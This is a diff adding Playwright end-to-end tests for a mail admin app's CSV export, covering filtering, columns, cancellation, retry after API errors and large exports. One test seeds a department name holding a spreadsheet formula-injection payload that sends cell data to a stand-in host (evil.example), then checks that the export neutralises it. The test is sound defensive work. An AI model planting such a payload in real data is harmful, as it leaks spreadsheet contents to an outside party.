@@ -1,0 +1,209 @@
+import { readFile } from 'node:fs/promises'
+import type { Page } from '@playwright/test'
+import papaparse from 'papaparse'
+import { expect, signIn, test } from './fixture.ts'
+import { expectAccessible, openView, panel, press } from './utils.ts'
+
+const openExport = async (page: Page) => {
+  await openView(page)
+  await page.getByRole('button', { name: 'Export as CSV' }).click()
+  await expect(panel(page).getByRole('heading', { name: 'Export as CSV' })).toBeVisible()
+}
+
+/** Presses the button that makes the file; its bytes as text, and its rows. */
+const save = async (page: Page, button: string) => {
+  const saved = page.waitForEvent('download')
+  await press(page, button)
+  const download = await saved
+  const text = await readFile(await download.path(), 'utf8')
+  const { data } = papaparse.parse(text.replace(/^\uFEFF/, '').replace(/\r\n$/, ''), {
+    delimiter: ',',
+    newline: '\r\n',
+  })
+  return { name: download.suggestedFilename(), text, rows: data }
+}
+
+test('all rows of a list are saved, as they are searched, filtered and ordered, with the columns that are shown', async ({
+  page,
+  organization,
+}) => {
+  await organization.seed({ departments: 4, identities: 260 })
+  await signIn(page, organization.ownerKey, 'identities?sort=-address')
+  await openExport(page)
+  const whole = await save(page, 'Export 260 rows')
+  await expect(panel(page).getByText('Exported 260 rows.')).toBeVisible()
+  expect(whole.name).toMatch(/^identities-\d{4}-\d\d-\d\d\.csv$/)
+  expect(whole.text.startsWith('\uFEFFName,Status,Address,Department,')).toBe(true)
+  expect(whole.text.endsWith('\r\n')).toBe(true)
+  expect(whole.rows).toHaveLength(261)
+  const addresses = whole.rows.slice(1).map((row) => row[2])
+  const first = await organization.api<{
+    items: { address_unicode: string; mailbox: { limit_bytes: number } }[]
+  }>('GET', '/identity/list?sort=-address&limit=200')
+  expect(addresses.slice(0, 200)).toEqual(first.items.map((item) => item.address_unicode))
+  expect(whole.rows[1]?.[4]).toBe(String(first.items[0]?.mailbox.limit_bytes))
+
+  await press(page, 'Done')
+  await page.goto(page.url().replace(/\?.*/, '?status=suspended'))
+  await expect(page.getByText(/^1–\d+ of \d+$/)).toBeVisible()
+  const total = Number(/of (\d+)$/.exec(await page.getByText(/^1–\d+ of \d+$/).innerText())?.[1])
+  await openView(page)
+  await page.getByRole('checkbox', { name: 'Department' }).uncheck()
+  await page.keyboard.press('Escape')
+  await openExport(page)
+  const some = await save(page, `Export ${total} rows`)
+  expect(some.rows[0]).toEqual([
+    'Name',
+    'Status',
+    'Address',
+    'Mailbox size (bytes)',
+    'Stored (bytes)',
+    'Last sign-in',
+  ])
+  expect(some.rows).toHaveLength(total + 1)
+  expect(new Set(some.rows.slice(1).map((row) => row[1]))).toEqual(new Set(['suspended']))
+})
+
+test('a name that would be a formula is a text in the file', async ({ page, organization }) => {
+  const name = '=HYPERLINK("evil.example?"&A1,"Sales")'
+  await organization.api('POST', '/department', { department_name: name })
+  await organization.api('POST', '/department', { department_name: 'North; "East"' })
+  await signIn(page, organization.ownerKey, 'departments')
+  await openExport(page)
+  const { rows } = await save(page, 'Export 2 rows')
+  expect(rows.slice(1).map((row) => row[0])).toEqual(expect.arrayContaining([`'${name}`, 'North; "East"']))
+})
+
+test('it can be cancelled, and goes on where the API was away', async ({ page, organization, faults }) => {
+  faults.expectFault(/answer: 500 .*\/api\/department\/list/)
+  await organization.seed({ departments: 430, identities: 0 })
+  await signIn(page, organization.ownerKey, 'departments')
+  await openExport(page)
+  let release = () => undefined as void
+  const held = new Promise<void>((resolve) => {
+    release = resolve
+  })
+  const second = (url: URL) =>
+    url.pathname === '/api/department/list' && url.searchParams.get('offset') === '190'
+  await page.route(second, async (route) => {
+    await held
+    await route.continue()
+  })
+  await press(page, 'Export 430 rows')
+  await expect(panel(page).getByText('200 of 430 rows')).toBeVisible()
+  await expect(panel(page).getByRole('progressbar', { name: 'Rows in the file' })).toHaveAttribute(
+    'value',
+    '200',
+  )
+  await expect(panel(page).getByRole('button', { name: 'Cancel' })).toBeFocused()
+  await page.keyboard.press('Escape')
+  await expect(panel(page).getByText('Cancelled: no file was saved.')).toBeVisible()
+  const answered = page.waitForResponse((response) => second(new URL(response.url())))
+  release()
+  await answered
+  await page.unroute(second)
+  await press(page, 'Done')
+  await expect(panel(page)).toHaveCount(0)
+  await expect(page.getByRole('button', { name: 'View', exact: true })).toBeFocused()
+
+  await openExport(page)
+  const refuse = {
+    status: 500,
+    contentType: 'application/problem+json',
+    body: JSON.stringify({
+      type: 'https://mail.example/docs/errors#internal_error',
+      title: 'Something went wrong here',
+      status: 500,
+      code: 'internal_error',
+      request_id: '01JD0M7Q2K',
+    }),
+  }
+  await page.route(second, (route) => route.fulfill(refuse), { times: 1 })
+  await press(page, 'Export 430 rows')
+  await expect(panel(page).getByText('Something went wrong here')).toBeVisible()
+  await expect(panel(page).getByText('200 of 430 rows')).toBeVisible()
+  const { rows } = await save(page, 'Go on')
+  expect(rows).toHaveLength(431)
+  expect(new Set(rows.map((row) => row[0])).size).toBe(431)
+})
+
+test('a list that changes meanwhile is saved without a row twice, and it is said @phone', async ({
+  page,
+  organization,
+}) => {
+  await organization.seed({ departments: 430, identities: 0 })
+  await signIn(page, organization.ownerKey, 'departments')
+  await openExport(page)
+  await page.route(
+    (url) => url.pathname === '/api/department/list' && url.searchParams.get('offset') === '190',
+    async (route) => {
+      await organization.api('POST', '/department', { department_name: '!first of all' })
+      await route.continue()
+    },
+    { times: 1 },
+  )
+  const { rows } = await save(page, 'Export 430 rows')
+  await expect(panel(page).getByText(/^Exported 43\d rows, while the list changed\.$/)).toBeVisible()
+  await expect(panel(page).getByText('It has 431 rows now.')).toBeVisible()
+  await expectAccessible(page)
+  const names = rows.slice(1).map((row) => row[0])
+  expect(new Set(names).size).toBe(names.length)
+  expect(names.length).toBeGreaterThanOrEqual(430)
+})
+
+test('each list has a file of its own', async ({ page, organization }) => {
+  await organization.seed({ departments: 2, identities: 5 })
+  await signIn(page, organization.ownerKey)
+  const headers: Record<string, string> = {
+    'mailbox-quotas': 'Name,Address,Stored (bytes),Mailbox size (bytes),Measured',
+    departments: 'Name,Identities,Stored (bytes),Allotted (bytes)',
+    domains: 'Domain,Primary,Status,Identities,Storage allotted (bytes)',
+    key: 'Name,Last characters,Status,Kind,May do,Last used,Expires',
+    audit: 'What,Operation,Id,Who,When',
+  }
+  const mayBeEmpty = ['Last used', 'Expires']
+  for (const [segment, header] of Object.entries(headers)) {
+    await page.goto(page.url().replace(/(\/o\/[^/]+\/).*/, `$1${segment}`))
+    await openExport(page)
+    const button = panel(page).getByRole('button', { name: /^Export [\d ]+ rows?$/ })
+    const label = await button.innerText()
+    const { text, rows } = await save(page, label)
+    expect(text.slice(1, text.indexOf('\r\n')), segment).toBe(header)
+    expect(rows.length - 1, segment).toBe(Number(label.replace(/\D/g, '')))
+    const empty = header.split(',').filter((_, column) => rows.slice(1).every((row) => row[column] === ''))
+    expect(mayBeEmpty, segment).toEqual(expect.arrayContaining(empty))
+    for (const cells of rows) expect(cells, segment).toHaveLength(header.split(',').length)
+    await press(page, 'Done')
+  }
+})
+
+test('a large list goes straight to the file that was chosen', async ({ page, organization }) => {
+  await organization.seed({ departments: 3, identities: 400 })
+  await signIn(page, organization.ownerKey)
+  await page.evaluate(() => {
+    // The file system of the page's own, which has the same files; nobody can press a button of the browser here.
+    Object.assign(window, {
+      showSaveFilePicker: async ({ suggestedName }: { suggestedName: string }) =>
+        (await navigator.storage.getDirectory()).getFileHandle(suggestedName, { create: true }),
+    })
+  })
+  // As many as it takes, without making them: the list says so.
+  await page.route('**/api/identity/list?**', async (route) => {
+    const response = await route.fetch()
+    const list = (await response.json()) as { total: number }
+    const isFirst = new URL(route.request().url()).searchParams.get('limit') === '50'
+    await route.fulfill({ response, json: isFirst ? { ...list, total: 25_000 } : list })
+  })
+  await page.getByRole('link', { name: 'Identities', exact: true }).first().click()
+  await openExport(page)
+  await panel(page)
+    .getByRole('button', { name: /^Export 25.000 rows$/ })
+    .click()
+  await expect(panel(page).getByText('Exported 400 rows.')).toBeVisible()
+  const lines = await page.evaluate(async () => {
+    const folder = await navigator.storage.getDirectory()
+    const handle = await folder.getFileHandle(`identities-${new Date().toLocaleDateString('sv')}.csv`)
+    return (await (await handle.getFile()).text()).split('\r\n').length
+  })
+  expect(lines).toBe(402)
+})
